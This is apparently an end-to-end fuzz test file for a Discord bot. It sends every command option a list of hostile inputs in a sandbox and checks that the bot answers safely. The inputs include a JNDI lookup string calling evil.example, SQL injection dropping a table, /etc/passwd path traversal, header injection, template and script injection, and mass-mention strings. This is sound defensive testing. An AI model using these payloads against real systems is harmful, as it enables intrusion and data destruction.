"""Every option of every command with everything people can type at its worst, through the real bot."""

import asyncio
import re
from typing import Any

from bot.sandbox.discord import Interaction, State
from bot.sandbox.stage import Stage
from tests.e2e.conftest import open_stage, rows, run, text_of

NASTY = (
    "\x00\x01\x02\x1b[31m\x7f\x85", "\u202eevil\u2066\u2069", "\u200b\u200d\ufeff\u2060", "e" + "\u0301" * 400,
    "\ud800", "\U0010ffff\ue000\ufffe", "@everyone @here <@1> <@&1> <#1>", "[a](https://evil.example) discord.gg/abc",
    "```\n```||~~**__>>> # -# 1. ", "{0} %s ${jndi:ldap://evil.example/} {{7*7}} <script>",
    "' OR 1=1; DROP TABLE jobs;--",
    "../../../../etc/passwd", "\r\nX-Injected: yes", "٣٤٥²Ⅷ", "NaN", "1e999", "-0", "z" * 6000,
    "字" * 6000, "😀" * 6000,
)  # fmt: skip
NUMBERS: tuple[Any, ...] = (-1, 0, 10**18, -(10**18), 2**53)
TEXT, INTEGER, BOOLEAN = 3, 4, 5
# What would still act in a message: mentions, links, invites, and characters that turn or hide text.
LIVE = re.compile(
    r"@everyone|@here|(?<!\\)<(?:@&?|#)1>|(?<!\\)\]\(https?://evil|https://evil|discord\.gg/abc|[\u202e\u2066]"
)
ANSWERED = (State.DEFERRED, State.ANSWERED)
REQUIRED = {"music": {"prompt": "rain"}, "sfx": {"prompt": "creak"}, "video": {"prompt": "boat"}, "tts": {"text": "hi"}}


def commands(stage: Stage) -> list[dict[str, Any]]:
    return [one for table in stage.discord.platform.registry.by_scope.values() for one in table.values()]


def send(stage: Stage, command: dict[str, Any], options: list[dict[str, Any]], kind: int = 2) -> Interaction:
    """Send a command as a client of somebody's own making would: nothing is checked on the way."""
    data = {"id": command["id"], "name": command["name"], "type": 1, "options": options}
    world = stage.world
    owners = {"0": str(world.guild.id)}
    return stage.discord.platform.interactions.send(kind, world.member, world.general, data, owners=owners)


def leaves(command: dict[str, Any]) -> list[tuple[list[str], list[dict[str, Any]]]]:
    """Every command or subcommand: the way to it, and its options."""
    inner = [one for one in command.get("options", ()) if one["type"] in (1, 2)]
    if not inner:
        return [([], command.get("options", []))]
    return [([one["name"], *way], options) for one in inner for way, options in leaves(one)]


def nested(way: list[str], filled: list[dict[str, Any]]) -> list[dict[str, Any]]:
    for depth, name in enumerate(reversed(way)):
        filled = [{"name": name, "type": 1 if depth == 0 else 2, "options": filled}]
    return filled


def attacks(stage: Stage) -> list[tuple[dict[str, Any], list[dict[str, Any]], int]]:
    """Every option of every command with every bad value, the others filled in plainly; also as suggestions."""
    made = []
    for command in commands(stage):
        for way, options in leaves(command):
            plain = [{"name": name, "type": TEXT, "value": value}
                     for name, value in REQUIRED.get(command["name"], {}).items()]  # fmt: skip
            for option in [one for one in options if one["type"] in (TEXT, INTEGER, BOOLEAN)]:
                values: tuple[Any, ...] = NASTY if option["type"] == TEXT else NUMBERS
                for value in values:
                    bad = {"name": option["name"], "type": option["type"], "value": value}
                    others = [one for one in plain if one["name"] != option["name"]]
                    made.append((command, nested(way, [*others, bad]), 2))
                    if option.get("autocomplete"):
                        made.append((command, nested(way, [*others, {**bad, "focused": True}]), 4))
    return made


async def test_every_option_of_every_command_with_every_bad_value_is_answered() -> None:
    async with open_stage() as stage:
        tried = attacks(stage)
        assert len(tried) > 500
        # Values no client sends and discord.py itself can't read are left without an answer; all text must have one.
        silent = []
        for start in range(0, len(tried), 20):
            sent = [(one, send(stage, *one)) for one in tried[start : start + 20] if is_text(one[1])]
            for one in tried[start : start + 20]:
                if not is_text(one[1]):
                    send(stage, *one)
            await asyncio.gather(*(interaction.wait_first_answer() for _, interaction in sent))
            silent += [one for one, interaction in sent if interaction.state not in ANSWERED]
        for one in silent:  # a busy machine may have been late: alone it must be answered
            assert (await send(stage, *one).wait_first_answer()).state in ANSWERED, one[1]
        assert (await run(stage, "/jobs list")).state in ANSWERED
        assert stage.bot.starts == 1
        log = "\n".join(stage.bot.log)
        assert "unexpected error" not in log, [line for line in stage.bot.log if "rror" in line][:3]
        assert "jndi" not in log
        assert "zzzzzzzz" not in log
        assert rows(stage), "some of these are good requests"
        for message in stage.discord.platform.messages.by_id.values():
            live = LIVE.findall(text_of(message))
            assert live == [], text_of(message)
            assert set(message.pinged) <= {stage.world.member.id}
        print(f"{len(tried)} hostile interactions tried")


def is_text(options: list[dict[str, Any]]) -> bool:
    last = options[-1]
    return is_text(last["options"]) if last.get("options") else last.get("type") == TEXT
